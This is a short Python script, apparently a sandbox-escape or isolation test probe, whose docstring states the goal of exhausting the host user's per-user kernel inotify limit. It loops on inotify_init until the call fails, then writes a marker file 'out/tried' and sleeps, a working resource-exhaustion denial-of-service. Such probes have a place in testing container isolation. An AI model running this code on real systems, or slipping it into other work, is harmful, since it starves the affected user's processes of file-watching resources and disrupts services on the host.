"""Use up a number that the kernel counts for each user: then the host's user gets no more (inotify)."""

import ctypes
import time
from pathlib import Path

while ctypes.CDLL(None).inotify_init() >= 0:
    pass
Path("out/tried").touch()
time.sleep(30)
